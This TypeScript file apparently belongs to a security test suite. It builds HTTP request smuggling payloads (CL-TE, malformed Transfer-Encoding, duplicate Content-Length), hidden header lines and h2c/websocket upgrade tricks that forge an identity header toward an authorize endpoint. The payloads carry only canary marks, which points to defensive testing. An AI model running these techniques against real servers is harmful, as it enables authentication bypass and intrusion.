// Attacks by where a request begins and ends (T12, T17). What is smuggled carries the doctor's mark and
// nothing else: the issuer writes it down and issues nothing, and each attempt has a connection of its own.

import { CANARY_PARAMETER } from '../../admin/recorder.ts';
import {
  type Attack,
  authorizePath,
  type Message,
  openPath,
  type Site,
  subjectHeader,
} from '../attack.ts';

export function framingAttacks(site: Site): readonly Attack[] {
  return [...smuggled(site), ...hiddenLines(site), ...upgrades(site)];
}

/** A whole request in what is the body, or not, as one counts. */
const smuggled = (site: Site): readonly Attack[] => {
  const path = openPath(site, 'POST');
  const inner = (mark: string): string =>
    [
      `GET ${authorizePath(site)}?${CANARY_PARAMETER}=${mark} HTTP/1.1`,
      `Host: ${site.host}`,
      `${subjectHeader(site)}: ${mark}`,
      '',
      '',
    ].join('\r\n');
  const both = (coding: string) => (mark: string) => {
    const body = `0\r\n\r\n${inner(mark)}`;
    return { lines: [`Content-Length: ${body.length}`, coding], body };
  };
  const variants: readonly (readonly [string, string, (mark: string) => Partial<Message>])[] = [
    ['cl-te', 'Content-Length and Transfer-Encoding', both('Transfer-Encoding: chunked')],
    ['te-space', 'a blank before the colon', both('Transfer-Encoding : chunked')],
    ['te-value', 'a coding that nobody knows', both('Transfer-Encoding: xchunked')],
    ['te-tab', 'a tab before the coding', both('Transfer-Encoding:\tchunked')],
    [
      'cl-twice',
      'two Content-Length',
      (mark) => ({
        lines: ['Content-Length: 0', `Content-Length: ${inner(mark).length}`],
        body: inner(mark),
      }),
    ],
  ];
  return variants.map(([variant, says, framing]) => ({
    id: `T12-${variant}`,
    says: `a request inside of another: ${says}`,
    hole: 'smuggling',
    path,
    hidden: true,
    messages: (mark) => [{ method: 'POST', path, ...framing(mark) }],
  }));
};

/** A header line where some parsers see none. */
const hiddenLines = (site: Site): readonly Attack[] => {
  const name = subjectHeader(site);
  const path = openPath(site, 'GET');
  const form = openPath(site, 'POST');
  const attack = { hole: 'smuggling', header: name, path } as const;
  return [
    {
      ...attack,
      id: 'T12-folded',
      says: `${name} on a folded line`,
      messages: (mark) => [{ path, lines: [`X-Filler: x\r\n ${name}: ${mark}`] }],
    },
    {
      ...attack,
      id: 'T12-bare-lf',
      says: `${name} behind a bare LF`,
      messages: (mark) => [{ path, lines: [`X-Filler: x\n${name}: ${mark}`] }],
    },
    {
      ...attack,
      id: 'T12-bare-cr',
      says: `${name} behind a bare CR`,
      messages: (mark) => [{ path, lines: [`X-Filler: x\r${name}: ${mark}`] }],
    },
    {
      ...attack,
      id: 'T12-colon',
      says: `${name} with a blank before its colon`,
      messages: (mark) => [{ path, lines: [`${name} : ${mark}`] }],
    },
    {
      ...attack,
      id: 'T12-trailer',
      says: `${name} behind a chunked body`,
      path: form,
      messages: (mark) => [
        {
          method: 'POST',
          path: form,
          lines: ['Transfer-Encoding: chunked', `Trailer: ${name}`],
          body: `1\r\na\r\n0\r\n${name}: ${mark}\r\n\r\n`,
        },
      ],
    },
    {
      ...attack,
      id: 'T16-block',
      says: `${name} behind 20 KiB of headers`,
      messages: (mark) => [
        {
          path,
          lines: [
            ...Array.from({ length: 5 }, (_, index) => `X-Filler-${index}: ${'x'.repeat(4096)}`),
            `${name}: ${mark}`,
          ],
        },
      ],
    },
  ];
};

/** T17: what passes after a 101 is not looked at. */
const upgrades = (site: Site): readonly Attack[] => {
  const name = subjectHeader(site);
  const path = openPath(site, 'GET');
  const kinds: readonly (readonly [string, readonly string[], readonly string[]])[] = [
    [
      'h2c',
      ['Connection: Upgrade, HTTP2-Settings'],
      ['Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQAAP__'],
    ],
    [
      'websocket',
      ['Connection: Upgrade'],
      [
        'Upgrade: websocket',
        'Sec-WebSocket-Version: 13',
        'Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==',
      ],
    ],
  ];
  return kinds.map(([kind, connection, lines]) => ({
    id: `T17-${kind}`,
    says: `a forged ${name} behind an upgrade to ${kind}`,
    hole: 'upgrade',
    header: name,
    path,
    messages: (mark) => [
      { path, connection, lines },
      { path: authorizePath(site), lines: [`${name}: ${mark}`] },
    ],
  }));
};
